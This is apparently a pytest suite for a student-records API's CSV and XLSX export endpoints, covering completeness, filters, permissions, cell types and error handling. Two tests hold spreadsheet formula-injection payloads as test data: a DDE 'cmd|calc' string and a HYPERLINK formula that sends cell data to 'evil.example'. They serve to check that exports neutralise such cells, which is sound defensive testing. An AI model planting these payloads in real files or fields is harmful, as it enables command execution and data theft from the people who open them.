"""Exports: every list as a file, complete, in scope, harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable
from datetime import date
from typing import Any

import anyio
import httpx
import openpyxl
import pytest
from services.api.tests.conftest import Api, problem_of
from sqlalchemy import insert

from sims_api import export
from sims_api.spreadsheets import FORMULA, CsvWriter, XlsxWriter, cell, plain, safe
from sims_common.errors import ValidationFailed
from sims_core.models import Student

STUDENTS = "/api/students/export/"


def rows_of_csv(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert int(answer.headers["content-length"]) == len(answer.content)
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def sheets_of(answer: httpx.Response) -> list[list[tuple[Any, ...]]]:
    assert answer.status_code == 200, answer.text
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    return [list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets]


@pytest.fixture(scope="module")
def api(shared_api: Api) -> Api:
    make = shared_api.make
    staff = make.user("Registrar")
    for n in range(5):
        place = make.place(year=2024 + n % 2)
        student = make.student(place.program, email=f"s{n}@example.edu")
        make.result(student, ("DRAFT", "PUBLISHED")[n % 2])
        make.transcript_request(student, by=staff)
    return shared_api


def listed_rows(client: httpx.Client, path: str, ordering: str) -> list[dict[str, Any]]:
    """The rows of every page."""
    page = client.get(path, params={"ordering": ordering, "page_size": 200}).json()
    rows: list[dict[str, Any]] = page["results"]
    while page["next"]:
        page = client.get(page["next"]).json()
        rows += page["results"]
    assert len(rows) == page["count"]
    return rows


def test_every_list_can_be_exported_as_it_is_listed_in_each_order(api: Api) -> None:
    client = api.as_("Admin")
    document = api.client().get("/api/schema/").json()
    lists = [
        path
        for path, operations in document["paths"].items()
        if {"page", "ordering"}
        <= {p["name"] for p in operations.get("get", {}).get("parameters", [])}
    ]
    assert len(lists) >= 9
    for path in lists:
        described = document["paths"][f"{path}export/"]["get"]
        assert {"text/csv", export.MEDIA_TYPES["xlsx"]} <= described["responses"]["200"][
            "content"
        ].keys()
        parameters = {p["name"]: p["schema"] for p in document["paths"][path]["get"]["parameters"]}
        exported = {p["name"] for p in described["parameters"]}
        assert exported == parameters.keys() - {"page", "page_size", "cursor"} | {"format"}
        for ordering in parameters["ordering"]["enum"]:
            listed = listed_rows(client, path, ordering)
            found = rows_of_csv(client.get(f"{path}export/", params={"ordering": ordering}))
            assert [row["id"] for row in found] == [str(row["id"]) for row in listed]
            if found:
                assert list(found[0]) == list(listed[0])


def test_filters_search_and_scope_hold_as_in_the_list(api: Api) -> None:
    admin = api.as_("Admin")
    student = api.make.student(name="Searched For", status="graduated")
    assert [r["name"] for r in rows_of_csv(admin.get(STUDENTS, params={"search": "ched f"}))] == [
        "Searched For"
    ]
    found = rows_of_csv(admin.get(STUDENTS, params={"status": "graduated"}))
    assert [row["reg_no"] for row in found] == [student.reg_no]
    problem_of(admin.get(STUDENTS, params={"page": 1}), 400, "VALIDATION_ERROR")
    problem_of(admin.get(STUDENTS, params={"format": "pdf"}), 400, "VALIDATION_ERROR")
    asker = api.make.user("Student")
    own = api.make.student(user_id=asker.id, email="own@example.edu")
    mine = api.make.transcript_request(own, by=asker)
    seen = rows_of_csv(api.sign_in(asker).get("/api/transcripts/requests/export/"))
    assert [row["id"] for row in seen] == [str(mine.id)]


@pytest.mark.parametrize("path", [STUDENTS, "/api/results/export/"])
def test_lists_of_people_need_a_permission_of_their_own(api: Api, path: str) -> None:
    assert api.as_("Registrar").get(path).status_code == 200
    for role in ("Coordinator", "OfficeAssistant", "Student"):
        problem_of(api.as_(role).get(path), 403, "PERMISSION_DENIED")


@pytest.mark.parametrize("start", FORMULA)
def test_no_cell_starts_a_formula_and_none_is_lost_by_that(start: str) -> None:
    text = f"{start}cmd|'/c calc'!A1"
    assert safe(text) == f"'{text}"
    assert plain(safe(text)) == text
    assert cell(text) == safe(text)
    assert cell(-5) == -5
    assert safe("plain") == "plain"


def test_a_hostile_name_is_text_in_both_formats(api: Api) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    api.make.student(reg_no="F-1", name=hostile, phone="+92 300 1234567")
    client = api.as_("Admin")
    (row,) = rows_of_csv(client.get(STUDENTS, params={"reg_no": "F-1"}))
    assert row["name"] == f"'{hostile}"
    assert row["phone"] == "'+92 300 1234567"
    answer = client.get(STUDENTS, params={"reg_no": "F-1", "format": "xlsx"})
    assert answer.headers["content-disposition"] == 'attachment; filename="students.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
    assert [c.data_type for c in sheet[2] if c.value == f"'{hostile}"] == ["s"]


def test_cells_of_xlsx_keep_their_types(api: Api) -> None:
    api.make.student(reg_no="T-1", date_of_birth=date(2004, 2, 29))
    answer = api.as_("Admin").get(STUDENTS, params={"reg_no": "T-1", "format": "xlsx"})
    (sheet,) = sheets_of(answer)
    row = dict(zip(sheet[0], sheet[1], strict=True))
    assert row["date_of_birth"].date() == date(2004, 2, 29)
    assert row["enrollment_year"] == 2024
    assert row["email"] is None


def test_a_full_sheet_goes_on_in_the_next_one(tmp_path: Any) -> None:
    file = io.BytesIO()
    writer = XlsxWriter(file, ["n"], scratch=str(tmp_path), max_rows=3)
    writer.write([[n] for n in range(5)])
    writer.close()
    book = openpyxl.load_workbook(file)
    assert [[r[0] for r in s.iter_rows(values_only=True)] for s in book.worksheets] == [
        ["n", 0, 1],
        ["n", 2, 3],
        ["n", 4],
    ]


def test_a_text_that_no_cell_holds_is_refused_not_dropped(tmp_path: Any) -> None:
    writer = XlsxWriter(io.BytesIO(), ["note"], scratch=str(tmp_path))
    writer.write([["x" * 32_767]])
    with pytest.raises(ValidationFailed, match="ask for csv"):
        writer.write([["x" * 32_768]])
    writer.close()


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_no_row_is_cut_and_no_connection_is_kept(api: Api, format_: str) -> None:
    program = api.make.program()
    many = [
        {
            "reg_no": f"M-{format_}-{n:05}",
            "name": "Many",
            "program_id": program.id,
            "enrollment_year": 2026,
        }
        for n in range(export.ROWS * 2 + 7)
    ]
    api.make.session.execute(insert(Student), many)
    api.make.session.commit()
    answer = api.as_("Admin").get(STUDENTS, params={"program": program.id, "format": format_})
    if format_ == "csv":
        found = [row["reg_no"] for row in rows_of_csv(answer)]
    else:
        (sheet,) = sheets_of(answer)
        found = [row[sheet[0].index("reg_no")] for row in sheet[1:]]
    assert found == [row["reg_no"] for row in many]
    assert api.app.state.engine.sync_engine.pool.checkedout() == 0


def test_when_too_many_are_written_the_next_is_told_to_come_back(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = api.as_("Admin")
    monkeypatch.setattr(export, "_running", anyio.CapacityLimiter(0))
    answer = client.get(STUDENTS)
    problem_of(answer, 503, "UNAVAILABLE")
    assert answer.headers["retry-after"] == "10"


def test_an_error_while_writing_is_a_problem_and_frees_the_place(
    start_api: Callable[..., Api], monkeypatch: pytest.MonkeyPatch
) -> None:
    api = start_api()
    api.make.student()
    client = api.as_("Admin")
    lock = threading.Lock()

    def broken(*_: Any) -> None:
        with lock:
            raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(CsvWriter, "write", broken)
        for _ in range(export.AT_ONCE + 1):
            problem_of(client.get(STUDENTS), 500, "INTERNAL_ERROR")
    assert client.get(STUDENTS).status_code == 200
